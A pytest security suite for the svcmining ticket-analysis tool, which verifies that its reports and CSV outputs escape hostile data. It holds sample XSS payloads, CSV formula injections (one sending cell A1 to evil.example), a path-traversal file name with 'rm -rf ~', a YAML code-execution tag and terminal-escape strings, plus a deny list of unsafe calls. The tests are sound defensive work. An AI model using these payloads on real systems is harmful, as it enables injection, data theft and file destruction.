"""Outputs never leak or execute what the data contains (issue 11).

* the HTML report escapes every data-derived string (no script, event-handler attribute,
  external URL or active element can come from labels) and carries a restrictive
  Content-Security-Policy (no script but the explorer's own inline one, allowed by its hash);
* CSV outputs (``check --out`` / ``--format csv``) neutralise formula injection;
* the package parses YAML only with ``yaml.safe_load`` and never ``eval``/``exec``s or unpickles
  anything (an AST scan of ``svcmining/``);
* outputs land only where the user pointed: nothing is written outside the chosen folder.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

import svcmining as svc
from svcmining._explorer import csp_script_source, strip_explorer
from svcmining.cli import main as cli_main

PACKAGE = Path(svc.__file__).resolve().parent
SOP_PATH = Path(__file__).resolve().parents[1] / "sample_logs" / "sop_complaint.yaml"

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr><svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_events() -> pd.DataFrame:
    """A generated log whose labels, resources, departments and ids carry hostile strings."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ev = svc.generate_tickets(30, seed=5).events.copy()
    n = len(HOSTILE)
    pick = ev.index[3 :: max(1, len(ev) // (3 * n))][: 3 * n]
    for i, idx in enumerate(pick):
        h = HOSTILE[i % n]
        col = ("activity", "resource", "department")[i // n]
        ev.loc[idx, col] = h
    first = ev["case_id"].iloc[0]
    ev.loc[ev["case_id"] == first, "case_id"] = "<b>GD</b>&=1+1"
    ev["备注"] = "<script>x()</script>"
    return svc.as_events(ev)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


@pytest.fixture(scope="module")
def report_html(tmp_path_factory) -> str:
    out = tmp_path_factory.mktemp("report") / "r.html"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        svc.render_report(
            hostile_events(), out, sop=SOP_PATH, title="<script>alert('title')</script>"
        )
    return out.read_text(encoding="utf-8")


def test_report_has_no_active_content_from_data(report_html):
    """No script/iframe/object/svg/form element, on* attribute or javascript:/remote URL."""
    parser = _Tags()
    parser.feed(strip_explorer(report_html))  # the explorer's own two scripts, checked intact
    names = {t for t, _ in parser.tags}
    assert not names & {"script", "iframe", "object", "embed", "svg", "form", "base", "link"}
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            v = (value or "").strip().lower()
            if name in ("src", "href", "action", "formaction", "data"):
                assert v.startswith(("data:image/", "#")), (tag, name, value[:80])
    lowered = strip_explorer(report_html).lower()
    assert "<script" not in lowered and "onerror=" not in lowered.replace("onerror=alert", "")


def test_report_shows_hostile_labels_as_text(report_html):
    """Hostile labels are still visible to the reader, escaped (not dropped)."""
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report_html
    assert "&lt;b&gt;GD&lt;/b&gt;&amp;=1+1" in report_html or "GD" in report_html


def test_report_csp_forbids_scripts(report_html):
    """The report's CSP allows only the explorer's inline script (by hash), nothing remote."""
    m = re.search(
        r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', report_html, re.I
    )
    assert m, "no CSP meta tag"
    assert report_html.index(m.group(0)) < report_html.lower().index("<title")
    directives = {
        d.split()[0]: d.split()[1:] for d in (x.strip() for x in m.group(1).split(";")) if d
    }
    assert directives.get("default-src") == ["'none'"]
    script = directives.get("script-src", directives["default-src"])
    assert script == [csp_script_source()]
    for d, sources in directives.items():
        assert "'unsafe-eval'" not in sources and "*" not in sources, d
        assert not any(s.startswith(("http", "//")) for s in sources), d
    assert directives.get("img-src") == ["data:"]


@pytest.fixture(scope="module")
def check_outputs(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("check")
    ev = hostile_events()
    (tmp / "export.csv").write_text(ev.drop(columns=["备注"]).to_csv(index=False), encoding="utf-8")
    code = cli_main(
        ["check", str(tmp / "export.csv"), "--sop", str(SOP_PATH), "--out", str(tmp / "out")]
    )
    assert code in (0, 1)
    return tmp / "out"


def _cells(path: Path) -> list[dict[str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_deviation_csv_neutralises_formulas(check_outputs):
    """No text cell of deviations.csv starts with = + - @ tab or CR (numbers excepted)."""
    rows = _cells(check_outputs / "deviations.csv")
    assert rows, "the hostile log must have deviations"
    texts = [v for r in rows for v in r.values() if v and not _is_number(v)]
    bad = [v for v in texts if v.startswith(FORMULA_START)]
    assert not bad, bad[:5]
    assert any(v.startswith("'=") or v.startswith("'+") for v in texts)


def test_csv_stdout_neutralises_formulas(tmp_path, capsys):
    """`check --format csv` on stdout neutralises formulas as the file does."""
    ev = hostile_events()
    (tmp_path / "e.csv").write_text(ev.drop(columns=["备注"]).to_csv(index=False), encoding="utf-8")
    capsys.readouterr()
    cli_main(["check", str(tmp_path / "e.csv"), "--sop", str(SOP_PATH), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    texts = [v for r in rows for v in r.values() if v and not _is_number(v)]
    assert rows and not [v for v in texts if v.startswith(FORMULA_START)]


def test_markdown_output_escapes_html_and_pipes(check_outputs):
    """check.md (rendered by CI tools as HTML) shows no raw tag or table-breaking pipe from data."""
    md = (check_outputs / "check.md").read_text(encoding="utf-8")
    assert "<script" not in md.lower() and "<img" not in md.lower() and "<svg" not in md.lower()


def test_json_output_is_valid_json(check_outputs):
    """check.json stays valid JSON whatever the labels contain."""
    json.loads((check_outputs / "check.json").read_text(encoding="utf-8"))


def test_outputs_stay_in_the_chosen_folder(check_outputs):
    """check --out DIR writes only its fixed file names, inside DIR; nothing beside it."""
    written = sorted(p.name for p in check_outputs.iterdir())
    assert written == sorted(
        ["check.txt", "check.json", "check.junit.xml", "check.md", "deviations.csv"]
    )
    siblings = sorted(p.name for p in check_outputs.parent.iterdir())
    assert siblings == ["export.csv", "out"]


def test_hostile_export_names_write_nothing_outside(tmp_path, monkeypatch):
    """Export/sheet names that look like paths never become output paths."""
    monkeypatch.chdir(tmp_path)
    inner = tmp_path / "in"
    inner.mkdir()
    name = "..%2F..%2Fevil;rm -rf ~;.csv"
    (inner / name).write_text(
        "工单编号,处理环节,处理时间\n1,投诉登记,2024-10-08 09:00\n1,结单,2024-10-08 10:00\n",
        encoding="utf-8",
    )
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        pd.DataFrame(
            {"工单编号": ["2"], "处理环节": ["投诉登记"], "处理时间": ["2024-10-08 09:00"]}
        ).to_excel(xw, sheet_name="..", index=False)
    (inner / "book.xlsx").write_bytes(buf.getvalue())
    before = set(tmp_path.rglob("*"))
    code = cli_main(
        ["check", str(inner), "--each", "--sheet", "*", "--sop", str(SOP_PATH), "--out", "res"]
    )
    assert code in (0, 1)
    created = set(tmp_path.rglob("*")) - before
    assert created and all(p.is_relative_to(tmp_path / "res") for p in created), created
    rc = cli_main(["report", str(inner), "--sheet", "*", "--out", "rep/r.html"])
    assert rc == 0
    created = set(tmp_path.rglob("*")) - before
    assert {p.relative_to(tmp_path).parts[0] for p in created} == {"res", "rep"}
    assert sorted(p.name for p in (tmp_path / "rep").iterdir()) == ["r.html"]


# ----------------------------------------------------------------------------- code scan
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "joblib", "cloudpickle"}
FORBIDDEN_ATTRS = {
    ("yaml", "load"),
    ("yaml", "load_all"),
    ("yaml", "unsafe_load"),
    ("yaml", "unsafe_load_all"),
    ("yaml", "full_load"),
    ("yaml", "full_load_all"),
    ("yaml", "Loader"),
    ("yaml", "UnsafeLoader"),
    ("yaml", "FullLoader"),
    ("pd", "read_pickle"),
    ("pandas", "read_pickle"),
    ("os", "system"),
    ("os", "popen"),
}


# yaml.load with a Loader the test proves to be a plain SafeLoader subclass (no extra tags)
SAFE_LOADERS = {
    ("_yaml.py", "_Loader"): lambda: __import__("svcmining._yaml")._yaml._Loader,
    ("_yaml.py", "_TextLoader"): lambda: __import__("svcmining._yaml")._yaml._TextLoader,
}


def _safe_yaml_load(path: Path, node: ast.Call) -> bool:
    loader = next((k.value for k in node.keywords if k.arg == "Loader"), None)
    return isinstance(loader, ast.Name) and (path.name, loader.id) in SAFE_LOADERS


def _violations(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    allowed: set[int] = set()
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and isinstance(node.func.value, ast.Name)
            and (node.func.value.id, node.func.attr) == ("yaml", "load")
            and _safe_yaml_load(path, node)
        ):
            allowed.add(id(node.func))
    for node in ast.walk(tree):
        where = f"{path.name}:{getattr(node, 'lineno', '?')}"
        if id(node) in allowed:
            continue
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Name)
            and node.func.id in FORBIDDEN_CALLS
        ):
            found.append(f"{where} {node.func.id}()")
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr) in FORBIDDEN_ATTRS
        ):
            found.append(f"{where} {node.value.id}.{node.attr}")
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
            for n in names:
                if n.split(".")[0] in FORBIDDEN_MODULES:
                    found.append(f"{where} import {n}")
            if isinstance(node, ast.ImportFrom) and node.module == "yaml":
                for a in node.names:
                    if ("yaml", a.name) in FORBIDDEN_ATTRS:
                        found.append(f"{where} from yaml import {a.name}")
        if (
            isinstance(node, ast.keyword)
            and node.arg == "shell"
            and isinstance(node.value, ast.Constant)
            and node.value.value is True
        ):
            found.append(f"{where} shell=True")
    return found


def test_package_has_no_unsafe_deserialisation_or_eval():
    """No yaml.load/full_load/unsafe Loader, eval/exec, pickle or shell=True in svcmining/."""
    found = [v for p in sorted(PACKAGE.rglob("*.py")) for v in _violations(p)]
    assert not found, found


def test_yaml_is_parsed_with_safe_load_only():
    """Modules parse YAML with yaml.safe_load, or yaml.load with a proven SafeLoader subclass."""
    import yaml

    for p in sorted(PACKAGE.rglob("*.py")):
        text = p.read_text(encoding="utf-8")
        if "import yaml" not in text:
            continue
        uses = set(re.findall(r"(?<![\w.:])yaml\.(\w+)", text))
        allowed = {"safe_load", "safe_dump", "YAMLError", "MarkedYAMLError", "SafeLoader"}
        # composing builds plain nodes (for line numbers); nothing is constructed
        allowed |= {"compose", "MappingNode", "SequenceNode", "ScalarNode", "Node"}
        if any(f == p.name for f, _ in SAFE_LOADERS):
            allowed.add("load")
        assert uses <= allowed, (p.name, uses)
    for make in SAFE_LOADERS.values():
        loader = make()
        assert issubclass(loader, yaml.constructor.SafeConstructor)
        assert not issubclass(loader, yaml.constructor.FullConstructor)
        assert loader.yaml_constructors == yaml.SafeLoader.yaml_constructors
        assert loader.yaml_multi_constructors == yaml.SafeLoader.yaml_multi_constructors


def test_code_scan_catches_what_it_forbids(tmp_path):
    """The scanner itself flags yaml.load, eval and pickle (guards against a blind test)."""
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import pickle\nimport yaml\nyaml.load(s)\neval('1')\nyaml.load(s, Loader=yaml.Loader)\n",
        encoding="utf-8",
    )
    assert len(_violations(bad)) == 5


def test_sop_yaml_tags_are_not_executed(tmp_path):
    """A !!python tag in an SOP file is rejected, never run."""
    marker = tmp_path / "pwned"
    (tmp_path / "s.yaml").write_text(
        f"steps: !!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path "
        f"['{marker}']]\nflow: []\n",
        encoding="utf-8",
    )
    with pytest.raises(svc.SOPDefinitionError):
        svc.load_sop(tmp_path / "s.yaml")
    assert not marker.exists()


def test_junit_xml_stays_well_formed(check_outputs):
    """check.junit.xml parses as XML whatever the labels contain."""
    import xml.etree.ElementTree as ET

    ET.parse(check_outputs / "check.junit.xml")


def test_hostile_file_name_is_escaped_in_the_report(tmp_path, monkeypatch):
    """An export whose file name is markup shows up escaped in the report's load section."""
    monkeypatch.chdir(tmp_path)
    name = "<img src=x onerror=alert(1)>.csv"
    (tmp_path / name).write_text(
        "工单编号,处理环节,处理时间\n1,投诉登记,2024-10-08 09:00\n1,结单,2024-10-08 10:00\n"
        "1,结单,soon\n",
        encoding="utf-8",
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert cli_main(["report", name, "--out", "r.html"]) == 0
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(strip_explorer(page))
    assert not [t for t, _ in parser.tags if t in ("script", "svg", "iframe")]
    assert not [t for t, a in parser.tags if t == "img" and any(n.startswith("on") for n, _ in a)]
    assert "&lt;img src=x onerror=alert(1)&gt;.csv" in page


# ----------------------------------------------------------------------------- issue 21
from svcmining._safetext import SafeStream, escape_text, json_safe  # noqa: E402

CORPUS = Path(__file__).resolve().parent / "corpus"
HEAD21 = "工单编号,处理环节,处理时间,处理人,处理部门\n"
TITLE_CLEAR = "客服\x1b]0;pwned\x07\x1b[2J中心"
RLO_ID = "T\u202e2gpj.exe"
RAW_UNSAFE = ("\x1b", "\x07", "\u202e", "\x9b")


def _hostile_export(folder: Path, name: str = "a.csv") -> Path:
    """Two tickets: one with a title-setting/screen-clearing department, one RLO id."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = "".join(
        f"{cid},投诉登记,2024-10-08 09:00,客服01,{TITLE_CLEAR}\n"
        f"{cid},分类派单,2024-10-08 10:00,王芳,{TITLE_CLEAR}\n"
        for cid in (RLO_ID, "GD2")
    )
    p = folder / name
    p.write_text(HEAD21 + rows, encoding="utf-8")
    return p


@pytest.mark.parametrize(
    ("text", "keep", "expected"),
    [
        (TITLE_CLEAR, "", "客服\\x1b]0;pwned\\x07\\x1b[2J中心"),
        (RLO_ID, "", "T\\u202e2gpj.exe"),
        ("a\u2066b\u2069c\u200e\u200f\u061c", "", "a\\u2066b\\u2069c\\u200e\\u200f\\u061c"),
        ("x\x85y\x7f", "", "x\\x85y\\x7f"),
        ("a\tb\nc\r", "", "a\\x09b\\x0ac\\x0d"),
        ("a\tb\nc\r", "\t\n\r", "a\tb\nc\r"),
        ("name\udcff.csv", "", "name\\udcff.csv"),
        ("客服中心 Service Desk, é\u00a0ü", "", "客服中心 Service Desk, é\u00a0ü"),
    ],
)
def test_escape_text_table(text, keep, expected):
    """One escaping rule: controls, bidi and surrogates become visible; text stays as is."""
    assert escape_text(text, keep=keep) == expected
    assert escape_text(expected, keep=keep) == expected  # idempotent


def test_json_safe_keeps_the_data():
    """JSON output writes C1/bidi as \\u escapes that parse back to the same strings."""
    doc = {"log": RLO_ID + "\x85", "dept": TITLE_CLEAR}
    text = json_safe(json.dumps(doc, ensure_ascii=False))
    assert not any(c in text for c in RAW_UNSAFE) and "\\u202e" in text
    assert json.loads(text) == doc


def test_safe_stream_escapes_what_it_writes():
    """The CLI's stdout/stderr wrapper keeps newline/CR/tab and escapes the rest."""
    buf = io.StringIO()
    SafeStream(buf).write(TITLE_CLEAR + "\t\r\n")
    assert buf.getvalue() == "客服\\x1b]0;pwned\\x07\\x1b[2J中心\t\r\n"


def test_info_shows_hostile_values_escaped(tmp_path, capsys):
    """`info` on a department that sets the title and clears the screen prints it escaped."""
    _hostile_export(tmp_path / "x")
    assert cli_main(["info", str(tmp_path / "x"), "--timezone", "Asia/Shanghai"]) == 0
    out, err = capsys.readouterr()
    assert not any(c in out + err for c in RAW_UNSAFE)
    assert "department (events): 客服\\x1b]0;pwned\\x07\\x1b[2J中心 4" in out


def test_check_junit_with_a_control_character_file_name_is_well_formed(tmp_path, capsys):
    """`check --each --format junit` on an export named with ESC writes parseable XML."""
    import xml.etree.ElementTree as ET

    folder = tmp_path / "x"
    _hostile_export(folder, "bad\x1b[31m.csv")
    code = cli_main(["check", str(folder), "--each", "--sop", str(SOP_PATH), "--format", "junit"])
    out, err = capsys.readouterr()
    assert code == 0, err
    root = ET.fromstring(out.split("\n", 1)[1])
    names = [s.get("name") for s in root.iter("testsuite")]
    assert names == [f"{folder}/bad\\x1b[31m.csv"]
    assert not any(c in out + err for c in RAW_UNSAFE)


def test_check_outputs_escape_data(tmp_path, capsys):
    """check --out: text, JSON, JUnit, Markdown and CSV carry no raw ESC/BEL/RLO."""
    folder = tmp_path / "x"
    _hostile_export(folder)
    out_dir = tmp_path / "out"
    code = cli_main(["check", str(folder), "--sop", str(SOP_PATH), "--out", str(out_dir)])
    capsys.readouterr()
    assert code == 0
    for name in ("check.txt", "check.json", "check.junit.xml", "check.md", "deviations.csv"):
        text = (out_dir / name).read_text(encoding="utf-8-sig")
        assert not any(c in text for c in RAW_UNSAFE), name
    csv_text = (out_dir / "deviations.csv").read_text(encoding="utf-8-sig")
    assert "T\\u202e2gpj.exe" in csv_text and "\\x1b]0;pwned" in csv_text
    doc = json.loads((out_dir / "check.json").read_text(encoding="utf-8"))
    assert doc["logs"][0]["tickets"] == 2


def test_report_html_escapes_bidi_and_controls(tmp_path, capsys):
    """The HTML report shows the RLO id as text (\\u202e), never the raw override."""
    _hostile_export(tmp_path / "x")
    out = tmp_path / "r.html"
    assert cli_main(["report", str(tmp_path / "x"), "--out", str(out)]) == 0
    capsys.readouterr()
    html_text = out.read_text(encoding="utf-8")
    assert not any(c in html_text for c in RAW_UNSAFE)
    assert "T\\u202e2gpj.exe" in html_text


def test_mapping_alias_bomb_gives_one_short_line(tmp_path, capsys):
    """A mapping YAML with nested aliases: one bounded error line naming file and line."""
    (tmp_path / "a.csv").write_text(HEAD21 + "GD1,投诉登记,2024-10-08 09:00,a,b\n", "utf-8")
    m = CORPUS / "mapping_alias_bomb.yaml"
    code = cli_main(["info", str(tmp_path / "a.csv"), "--mapping", str(m)])
    err = capsys.readouterr().err
    assert code == 2
    assert err.count("\n") == 1 and len(err) < 400
    assert f"{m}, line 2: the mapping file uses YAML aliases" in err


def test_mapping_alias_under_the_budget_is_a_short_schema_error(tmp_path):
    """An alias that expands to a list for case_id is refused without printing the list."""
    (tmp_path / "a.csv").write_text(HEAD21 + "GD1,投诉登记,2024-10-08 09:00,a,b\n", "utf-8")
    (tmp_path / "m.yaml").write_text(
        "x: &a [工单编号, 工单编号, 工单编号]\ny: &b [*a, *a, *a]\nmapping:\n  case_id: *b\n",
        "utf-8",
    )
    with pytest.raises(svc.SchemaError) as info:
        svc.read_tickets(tmp_path / "a.csv", mapping=tmp_path / "m.yaml")
    assert str(info.value) == (
        "The mapping gives 'case_id' a list; it takes one column name, e.g. 'case_id: Ticket No'."
    )


def test_calendar_alias_bomb_is_refused(tmp_path, capsys):
    """A calendar YAML alias bomb is refused in the CLI with the file and line."""
    (tmp_path / "a.csv").write_text(HEAD21 + "GD1,投诉登记,2024-10-08 09:00,a,b\n", "utf-8")
    cal = CORPUS / "calendar_alias_bomb.yaml"
    code = cli_main(
        [
            "report",
            str(tmp_path / "a.csv"),
            "--calendar",
            str(cal),
            "--out",
            str(tmp_path / "r.html"),
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and f"{cal}, line 2: the calendar file uses YAML aliases" in err


def test_yaml_is_read_only_through_the_shared_loader():
    """Only svcmining/_yaml.py builds YAML documents (_sopspec.py uses yaml only for node types)."""
    users = {
        p.name
        for p in PACKAGE.rglob("*.py")
        if re.search(r"^\s*import yaml\b", p.read_text(encoding="utf-8"), re.M)
    }
    assert users == {"_yaml.py", "_sopspec.py"}
    spec = (PACKAGE / "_sopspec.py").read_text("utf-8")
    sop_uses = set(re.findall(r"(?<![\w.:])yaml\.(\w+)", spec))
    assert sop_uses <= {"MappingNode", "SequenceNode", "safe_load", "SafeLoader"}


# --out: links, files vs folders, writability before the analysis
def test_out_never_writes_through_a_link(tmp_path, capsys):
    """check --out refuses a link inside the folder; the link's target is untouched."""
    folder = tmp_path / "x"
    _hostile_export(folder)
    secret = tmp_path / "secret.txt"
    secret.write_text("keep me", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "check.json").symlink_to(secret)
    code = cli_main(["check", str(folder), "--sop", str(SOP_PATH), "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2
    assert f"--out {out}/check.json: it is a symbolic link (to {secret})" in err
    assert secret.read_text(encoding="utf-8") == "keep me"


def test_report_out_link_is_refused(tmp_path, capsys):
    """report --out at a symbolic link is refused; the target keeps its content."""
    _hostile_export(tmp_path / "x")
    target = tmp_path / "t.txt"
    target.write_text("keep me", encoding="utf-8")
    link = tmp_path / "r.html"
    link.symlink_to(target)
    code = cli_main(["report", str(tmp_path / "x"), "--out", str(link)])
    err = capsys.readouterr().err
    assert code == 2 and "svcmining does not write through links" in err
    assert target.read_text(encoding="utf-8") == "keep me"


def test_out_rename_replaces_a_link_made_after_the_check(tmp_path):
    """write_file renames over a link that appeared late: the link goes, its target stays."""
    from svcmining._outfile import write_file

    target = tmp_path / "t.txt"
    target.write_text("keep me", encoding="utf-8")
    link = tmp_path / "r.html"
    link.symlink_to(target)
    write_file(link, "<p>report</p>")
    assert not link.is_symlink() and link.read_text(encoding="utf-8") == "<p>report</p>"
    assert target.read_text(encoding="utf-8") == "keep me"


def test_check_out_at_an_existing_file_says_what_to_do(tmp_path, capsys):
    """check --out at a file: a message saying it takes a folder, not [Errno 17]."""
    _hostile_export(tmp_path / "x")
    (tmp_path / "results").write_text("", encoding="utf-8")
    code = cli_main(
        ["check", str(tmp_path / "x"), "--sop", str(SOP_PATH), "--out", str(tmp_path / "results")]
    )
    err = capsys.readouterr().err
    assert code == 2 and "Errno" not in err
    assert "it is a file, but this --out takes a folder" in err


def test_report_out_at_a_folder_says_what_to_do(tmp_path, capsys):
    """report --out at an existing folder named *.html suggests a file inside it."""
    _hostile_export(tmp_path / "x")
    (tmp_path / "r.html").mkdir()
    code = cli_main(["report", str(tmp_path / "x"), "--out", str(tmp_path / "r.html")])
    err = capsys.readouterr().err
    assert code == 2
    assert f"it is a folder; give a file path, e.g. {tmp_path}/r.html/report.html." in err


def _unwritable_folder(tmp_path: Path) -> Path:
    """A folder this process cannot create files in (root ignores mode bits: use /sys)."""
    import os

    if os.geteuid() == 0:
        return Path("/sys")
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    return folder


@pytest.mark.parametrize("command", ["report", "check", "discover"])
def test_unwritable_out_fails_before_the_analysis(tmp_path, capsys, monkeypatch, command):
    """A read-only --out is refused before any export is read (not after the analysis)."""
    import svcmining._cli_check
    import svcmining._cli_report

    def no_analysis(*args, **kwargs):
        raise AssertionError("the analysis ran before --out was checked")

    for module in (svcmining._cli_check, svcmining._cli_report):
        monkeypatch.setattr(module, "read_logs", no_analysis)
    ro = _unwritable_folder(tmp_path)
    _hostile_export(tmp_path / "x")
    out = {"report": ro / "r.html", "check": ro / "results", "discover": ro / "m.svg"}[command]
    argv = [command, str(tmp_path / "x"), "--out", str(out)]
    if command == "check":
        argv += ["--sop", str(SOP_PATH)]
    code = cli_main(argv)
    err = capsys.readouterr().err
    assert code == 2 and "internal error" not in err
    assert "not writable (permission denied)" in err or "cannot write there" in err


def test_discover_svg_stays_well_formed(tmp_path, capsys):
    """`discover --out map.svg` on control-character labels writes parseable SVG."""
    import xml.etree.ElementTree as ET

    _hostile_export(tmp_path / "x")
    out = tmp_path / "m.svg"
    assert cli_main(["discover", str(tmp_path / "x"), "--out", str(out)]) == 0
    capsys.readouterr()
    text = out.read_text(encoding="utf-8")
    assert not any(c in text for c in RAW_UNSAFE)
    assert ET.fromstring(text.encode("utf-8")).tag.endswith("svg")


def test_report_inline_svg_escapes_controls():
    """Every inline SVG of the report passes the escaping rule (well-formed XML)."""
    from svcmining._reportparts import svg_with_font_stack

    svg = '<svg xmlns="http://www.w3.org/2000/svg"><!-- 客服\x1b[2J --><text>T\u202e1</text></svg>'
    out = svg_with_font_stack(svg.encode("utf-8")).decode("utf-8")
    assert out == (
        '<svg xmlns="http://www.w3.org/2000/svg"><!-- 客服\\x1b[2J --><text>T\\u202e1</text></svg>'
    )


def test_write_file_keeps_the_mode_of_the_file_it_replaces(tmp_path):
    """Rewriting report.html keeps its permissions; a new file gets 0666 minus the umask."""
    import os
    import stat

    from svcmining._outfile import write_file

    old = tmp_path / "r.html"
    old.write_text("old", encoding="utf-8")
    old.chmod(0o640)
    write_file(old, "new")
    assert stat.S_IMODE(old.stat().st_mode) == 0o640 and old.read_text("utf-8") == "new"
    umask = os.umask(0o022)
    try:
        write_file(tmp_path / "n.html", "x")
    finally:
        os.umask(umask)
    assert stat.S_IMODE((tmp_path / "n.html").stat().st_mode) == 0o644
    assert sorted(p.name for p in tmp_path.iterdir()) == ["n.html", "r.html"]  # no temp left
